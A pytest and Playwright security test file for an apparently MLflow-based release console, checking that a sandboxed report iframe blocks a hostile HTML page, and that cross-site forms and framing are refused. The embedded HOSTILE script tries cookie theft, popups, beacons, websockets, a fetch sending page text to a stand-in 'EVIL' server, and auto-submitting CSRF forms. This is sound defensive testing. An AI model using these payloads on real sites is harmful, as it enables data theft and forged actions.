"""A hostile report, and hostile pages of others, in a real browser: what they try, and that nothing comes of it."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, Request
from releases_bench import REVIEWER
from servers.browser import SignedIn
from servers.console import FORMS, ConsoleServer
from servers.plugin import ADMIN
from servers.plugin import signed_in as acting_as

#: Tries everything a report could do; ``done`` in its title says that its scripts ran to the end. Attempts to go
#: elsewhere can take the page away, even where they are refused: ``leave()`` makes them, once the rest is read.
HOSTILE = """<!doctype html><title>start</title><body><p id="drawn">drawn</p>
<form id="form" method="post" action="EVIL/form"><input name="stolen" value="1"></form>
<form id="own" method="post" action="API/registered-models/alias"><input name="alias" value="production"></form>
<img src="EVIL/image"><link rel="stylesheet" href="EVIL/style"><iframe src="EVIL/frame"></iframe>
<script src="EVIL/script"></script>
<script>
const told = [];
const attempt = (name, act) => {
  try { act(); told.push(name + ": tried"); } catch (error) { told.push(name + ": " + error.name); }
};
const later = (name, act) => Promise.resolve().then(act).then(
  () => told.push(name + ": WORKED"), (error) => told.push(name + ": " + error.name));
(async () => {
  attempt("parent", () => parent.document.body.append("taken"));
  attempt("cookie", () => document.cookie = "a=b");
  attempt("storage", () => localStorage.setItem("a", "b"));
  attempt("popup", () => { if (!open("EVIL/popup")) throw new TypeError("blocked"); });
  attempt("beacon", () => { if (!navigator.sendBeacon("EVIL/beacon", "x")) throw new TypeError("blocked"); });
  attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"]))));
  attempt("socket", () => new WebSocket("EVIL/socket".replace("http", "ws")));
  await later("fetch", () => fetch("API/experiments/search", {method: "POST", body: "{}"}));
  await later("fetch page", () => fetch("/flywheel/releases/3"));
  await later("fetch evil", () => fetch("EVIL/fetch?" + document.body.innerText, {mode: "no-cors"}));
  document.getElementById("drawn").textContent = told.join("\\n");
  window.leave = () => {
    attempt("form", () => document.getElementById("form").submit());
    attempt("own form", () => document.getElementById("own").submit());
    attempt("top", () => { top.location = "EVIL/top"; });
    location = "EVIL/self";
  };
  document.title = "done";
})();
</script></body>"""


class Evil:
    """Another server; ``seen`` are the paths that anybody asked it for."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.pages: dict[str, str] = {}
        self.uri = ""

    @contextmanager
    def running(self) -> Iterator[Evil]:
        """Until the block ends."""
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                evil.seen.append(self.path)
                body = evil.pages.get(self.path, "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                with suppress(ConnectionError):  # the browser left before it was answered
                    self.wfile.write(body)

            do_POST = do_GET  # noqa: N815 - the name the library looks for

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.uri = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield self
        finally:
            server.shutdown()
            thread.join()
            server.server_close()


@pytest.fixture
def evil() -> Iterator[Evil]:
    with Evil().running() as found:
        yield found


@pytest.fixture
def exchanged(console: ConsoleServer, evil: Evil, tmp_path: Path) -> Iterator[str]:
    """The hostile report in place of Evidently's, for one test; its address."""
    text = HOSTILE.replace("EVIL", evil.uri).replace("API", f"{console.plugin.uri}/ajax-api/2.0/mlflow")
    with acting_as(ADMIN):
        tracking = console.plugin.bench().bench.tracking
        run, reference = (found.run_id for number in (3, 2) if (found := tracking.assemblies.recorded(number)))
        kept = tracking.comparisons.text(run, reference, tmp_path / "kept", name="drift.html")
        assert kept is not None

    def put(html: str, folder: str) -> None:
        with acting_as(ADMIN):
            tracking.comparisons.write(
                run, reference, verdict="PASS", files={"drift.html": html}, metrics={}, folder=tmp_path / folder
            )

    put(text, "new")
    yield f"/flywheel/drift/report?run={run}&against={reference}"
    put(kept, "old")


def sent_by(page: Page) -> list[Request]:
    """Every request of the page from now on."""
    found: list[Request] = []
    page.on("request", lambda request: found.append(request))  # noqa: PLW0108 - Playwright marks its handlers
    return found


def report_frame(page: Page) -> Frame:
    """The report, which is loaded once somebody opens it."""
    page.locator(".embedding summary").click()
    page.frame_locator("iframe.embedded").locator("#drawn").wait_for()
    frame = next(item for item in page.frames if "/drift/report" in item.url)
    frame.wait_for_function("document.title == 'done'")
    return frame


def test_a_hostile_report_reaches_nothing(
    signed_in: SignedIn, console: ConsoleServer, evil: Evil, exchanged: str
) -> None:
    """Inside its page its scripts run, and nothing of what they try happens: no request to MLflow, to our pages or to
    another server, no form, no window, no cookie, no change of the page around it.
    """
    page = signed_in(REVIEWER)
    sent = sent_by(page)
    page.goto("/flywheel/drift?iteration=3&against=2")
    frame = report_frame(page)
    told = frame.locator("#drawn").inner_text()
    frame.evaluate("leave()")
    page.wait_for_timeout(800)  # a refused request would be told of nowhere; one that is sent arrives within this
    assert "WORKED" not in told, told
    assert "parent: SecurityError" in told
    assert evil.seen == []
    places = [request.url.removeprefix(console.plugin.uri) for request in sent if evil.uri not in request.url]
    ours = ("/flywheel/drift", "/flywheel/live.js", "/flywheel/state", "data:")
    assert all(place.startswith(ours) for place in places), places
    assert "/flywheel/drift?" in page.url
    assert "taken" not in page.locator("body").inner_text()
    assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
    assert page.context.cookies() == []
    assert len(page.context.pages) == 1


def test_the_attacks_are_real(signed_in: SignedIn, evil: Evil) -> None:
    """The same page, shown as any page of the web is, asks the other server for all that it wants."""
    evil.pages["/report"] = HOSTILE.replace("EVIL", evil.uri).replace("API", f"{evil.uri}/api")
    page = signed_in()
    page.goto(evil.uri + "/report")
    page.wait_for_function("document.title == 'done'")
    page.evaluate("leave()")
    wanted = {"/image", "/style", "/frame", "/script", "/beacon", "/popup", "/fetch"}
    # Of the ways to leave the last one wins, and may cut the others short.
    leaving = {"/form", "/top", "/self"}
    reached: set[str] = set()
    end = time.monotonic() + 300
    while not (wanted <= reached and leaving & reached) and time.monotonic() < end:
        page.wait_for_timeout(100)
        reached = {place.partition("?")[0] for place in evil.seen}
    assert wanted <= reached, reached
    assert leaving & reached, reached


def test_a_report_has_no_window_of_its_own(signed_in: SignedIn, evil: Evil, exchanged: str) -> None:
    """Opened by its address it is not shown: there it could take the window elsewhere."""
    page = signed_in(REVIEWER)
    answer = page.goto(exchanged)
    assert answer is not None
    assert answer.status == 400
    page.wait_for_timeout(500)
    assert "inside its page alone" in page.locator("main").inner_text()
    assert evil.seen == []


def sent_forms(console: ConsoleServer) -> list[str]:
    """What the server answered to the forms that reached it, by its own log."""
    return re.findall(rf'POST {FORMS}/approve HTTP/1.1" (\d+)', console.plugin.log.read_text(encoding="utf-8"))


def test_a_page_of_another_server_decides_nothing(signed_in: SignedIn, console: ConsoleServer, evil: Evil) -> None:
    """A reviewer who is signed in opens somebody's page that sends a form, by itself or from a frame: refused.

    Not even a token that is good helps it.
    """
    with acting_as(ADMIN):
        before = len(console.plugin.bench().snapshot().ledger.events)
    form = (
        f'<form method="post" action="{console.plugin.uri}{FORMS}/approve">'
        '<input name="version" value="3"><input name="role" value="reviewer"><input name="reason" value="x">'
        f'<input name="token" value="{console.token(REVIEWER)}"></form><script>document.forms[0].submit()</script>'
    )
    evil.pages["/plain"] = form
    evil.pages["/unnamed"] = f'<meta name="referrer" content="no-referrer">{form}'
    evil.pages["/sandboxed"] = (
        f"<iframe sandbox=\"allow-scripts allow-forms\" srcdoc='{form.replace(chr(39), '')}'></iframe>"
    )
    for place in ("/plain", "/unnamed", "/sandboxed"):
        page = signed_in(REVIEWER)
        page.goto("/flywheel/")
        known = len(sent_forms(console))
        # The page that is opened leaves again at once.
        page.evaluate("address => { location = address; }", evil.uri + place)
        end = time.monotonic() + 300
        while len(sent_forms(console)) == known and time.monotonic() < end:
            page.wait_for_timeout(200)
        answers = sent_forms(console)[known:]
        assert answers, place
        assert set(answers) <= {"401", "403"}, place
    with acting_as(ADMIN):
        assert len(console.plugin.bench().snapshot().ledger.events) == before


def test_no_page_shows_the_console_in_a_frame(signed_in: SignedIn, console: ConsoleServer, evil: Evil) -> None:
    """Nobody is led to press a button that they do not see."""
    evil.pages["/framing"] = f'<iframe src="{console.plugin.uri}/flywheel/releases/3"></iframe>'
    page = signed_in(REVIEWER)
    page.goto("/flywheel/")
    page.goto(evil.uri + "/framing")
    page.wait_for_timeout(500)
    assert all("Release 3" not in frame.content() for frame in page.frames)
